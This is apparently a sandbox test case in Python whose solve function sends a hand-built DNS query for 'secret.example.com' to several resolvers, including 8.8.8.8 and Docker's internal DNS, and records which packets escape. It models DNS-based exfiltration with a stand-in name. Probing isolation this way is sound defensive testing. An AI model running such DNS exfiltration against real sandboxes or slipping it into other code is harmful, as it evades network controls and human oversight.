# what: carries something out in the names it asks DNS for
# expect: valid
# escaped: 0

import socket
import struct

QUESTION = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\x00" + struct.pack(">2H", 1, 1)


def solve(numbers):
    escaped = []
    for server in ("192.0.2.53", "192.168.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(QUESTION, (server, 53))
            escaped.append(f"a packet to {server}")
        except OSError:
            pass
    for name in ("secret.example.com", "host.docker.internal") if not escaped else ():
        try:
            escaped.append(f"{name} is {socket.getaddrinfo(name, 80)[0][4]}")
        except OSError:
            pass
    return {"escaped": escaped}
